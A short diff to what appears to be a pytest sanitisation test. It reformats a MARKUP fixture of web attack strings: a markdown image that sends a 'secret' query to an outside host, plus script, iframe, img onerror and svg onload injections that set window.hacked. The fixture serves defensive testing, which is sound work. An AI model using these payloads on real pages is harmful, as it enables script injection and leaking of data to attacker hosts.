@@ -23,7 +23,8 @@ pytestmark = [
 ]
 MARKUP = (
     f"![x](http://{OUTSIDE}/p.png?q=secret) <img src='http://{OUTSIDE}/i.png' onerror='window.hacked=1'> "
-    f"<script>window.hacked=1</script> [mở](http://{OUTSIDE}/a) http://{OUTSIDE}/b <iframe src='http://{OUTSIDE}/f'></iframe> <svg onload='window.hacked=1'></svg> "
+    f"<script>window.hacked=1</script> [mở](http://{OUTSIDE}/a) http://{OUTSIDE}/b <iframe src='http://{OUTSIDE}/f'></iframe> "
+    "<svg onload='window.hacked=1'></svg> "
 )
 
 
